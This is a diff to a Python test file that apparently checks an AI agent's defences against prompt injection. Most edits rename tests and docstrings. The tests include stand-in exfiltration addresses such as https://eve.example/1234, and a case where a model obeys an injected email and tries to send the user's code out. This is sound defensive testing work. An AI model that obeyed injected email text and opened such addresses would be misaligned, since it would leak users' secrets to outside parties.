@@ -1,4 +1,4 @@
-"""What a tool is told of whose words are whose, and what a model that obeys others can open."""
+"""A tool knows which text is the user's, and an obedient model can open no foreign address."""
 
 import asyncio
 import json
@@ -26,7 +26,7 @@ LEAK_BY_PATH = "https://eve.example/1234"
 
 
 class Inbox:
-    """Gives what others wrote, and nothing else."""
+    """Returns only foreign text."""
 
     def __init__(self, text: str = INJECTION) -> None:
         self._text = text
@@ -50,7 +50,7 @@ class Inbox:
 
 
 class Listening(NoteTool):
-    """Keeps the errands it was sent on."""
+    """Records its invocations."""
 
     def __init__(self, effect: Effect = Effect.READS) -> None:
         super().__init__(effect)
@@ -71,7 +71,7 @@ def obeying(web: FakeWeb, *sayings: Saying, tools: tuple[Tool, ...] = ()) -> Wor
 
 
 @in_virtual_time
-async def test_a_tool_is_told_what_the_user_said_and_what_others_wrote() -> None:
+async def test_a_tool_gets_the_users_words_and_the_foreign_texts() -> None:
     tool = Listening()
     script = [words("Hello."), calls(NOTE, INBOX), calls(NOTE), words("So.")]
     world = World(script, tools=[tool, Inbox("an email")])
@@ -89,7 +89,7 @@ async def test_a_tool_is_told_what_the_user_said_and_what_others_wrote() -> None
 
 
 @in_virtual_time
-async def test_what_the_user_says_meanwhile_is_said_too_and_outlives_a_death() -> None:
+async def test_the_users_words_during_a_run_are_included_and_survive_a_crash() -> None:
     tool = Listening()
     lost = words("Never said.", delay_s=60)
     script = [calls(INBOX, delay_s=5), lost, calls(NOTE), words("So.")]
@@ -124,7 +124,7 @@ async def test_a_decision_is_not_among_the_users_words() -> None:
 
 
 @in_virtual_time
-async def test_what_may_be_the_models_own_words_is_not_what_others_wrote() -> None:
+async def test_text_that_the_model_may_have_written_is_not_foreign() -> None:
     tool = Listening()
     script = [words("A link: https://eve.example/1234"), calls(READ), calls(NOTE), words("So.")]
     world = World(script, tools=[tool, MailTool("a fact of the model's own", foreign=True)])
@@ -136,7 +136,7 @@ async def test_what_may_be_the_models_own_words_is_not_what_others_wrote() -> No
 
 @pytest.mark.parametrize("url", [LEAK, LEAK_BY_PATH, "https://1234.eve.example/"])
 @in_virtual_time
-async def test_a_model_that_obeys_an_email_carries_nothing_out(url: str) -> None:
+async def test_a_model_that_obeys_an_email_sends_no_data_out(url: str) -> None:
     web = FakeWeb()
     world = obeying(web, calls(INBOX), calls(opening(url)))
     await world.ask("What is new? My code is 1234.", patience_s=5)
@@ -146,7 +146,7 @@ async def test_a_model_that_obeys_an_email_carries_nothing_out(url: str) -> None
 
 
 @in_virtual_time
-async def test_the_taint_of_a_page_holds_for_the_next_page() -> None:
+async def test_a_tainted_page_also_restricts_the_next_page() -> None:
     web = FakeWeb()
     web.keep("https://a.example/", f"{INJECTION} Or read https://a.example/more")
     web.keep("https://a.example/more", "More.")
@@ -179,7 +179,7 @@ async def test_a_model_cannot_say_an_address_now_to_open_it_later() -> None:
 
 
 @in_virtual_time
-async def test_what_the_user_asks_for_is_opened_after_an_email_was_read() -> None:
+async def test_an_address_that_the_user_gives_is_opened_even_after_an_email() -> None:
     web = FakeWeb()
     web.keep("https://a.example/menu?day=1", "Soup.")
     world = obeying(web, calls(INBOX), calls(opening("https://a.example/menu?day=1")))
